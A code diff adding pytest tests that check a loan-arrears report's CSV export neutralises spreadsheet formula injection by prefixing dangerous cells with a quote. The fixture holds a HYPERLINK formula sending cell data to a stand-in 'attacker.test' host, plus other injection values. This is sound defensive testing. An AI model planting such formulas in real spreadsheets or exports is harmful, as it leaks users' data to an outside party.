@@ -335,3 +335,35 @@ async def test_a_scheduled_run_is_stored_once_per_key(reports_db: Database) -> N
         idempotency_key="schedule:test:once",
     )
     assert again.id == first.id
+
+
+FORMULA = '=HYPERLINK("http://attacker.test/?leak="&A1,"click")'
+
+
+@pytest.fixture(scope="module")
+async def hostile_db(postgres: EmbeddedPostgres) -> AsyncIterator[Database]:
+    """A portfolio of its own whose loan products would run as formulas in a spreadsheet."""
+    url = postgres.ensure_database(f"arrears_reports_{uuid.uuid4().hex[:8]}")
+    migrate.upgrade(url)
+    db = Database(url)
+    async with db.session() as session:
+        p = Portfolio(session)
+        for product in (FORMULA, "+1+1", "-2+3", "@SUM(A1)", "\tlead", "\rlead", "-12.50"):
+            await p.loan(dpd=45, as_of=d(3, 31), product=product)
+    yield db
+    await db.dispose()
+
+
+async def test_the_csv_report_carries_no_formula_and_keeps_its_numbers(hostile_db: Database) -> None:
+    """Text that a spreadsheet would run is exported with a leading quote; a plain number, even a
+    negative one, stays a number. The JSON keeps every value as it is."""
+    _, files = await generate(hostile_db, ReportKind.DELINQUENCY, PolicyPack.US_MORTGAGE)
+    rows = list(csv.reader(io.StringIO(files["csv"].decode(), newline="")))
+    header = rows[0]
+    products = {r[header.index("product")] for r in rows[1:] if r and r[0] == "buckets"}
+    assert products == {"'" + FORMULA, "'+1+1", "'-2+3", "'@SUM(A1)", "'\tlead", "'\rlead", "-12.50"}
+    dangerous = ("=", "+", "-", "@", "\t", "\r")
+    for row in rows:
+        for cell in row:
+            assert not cell.startswith(dangerous) or cell == "-12.50", cell
+    assert {r["product"] for r in table(json.loads(files["json"]), "buckets")} >= {FORMULA, "-12.50"}
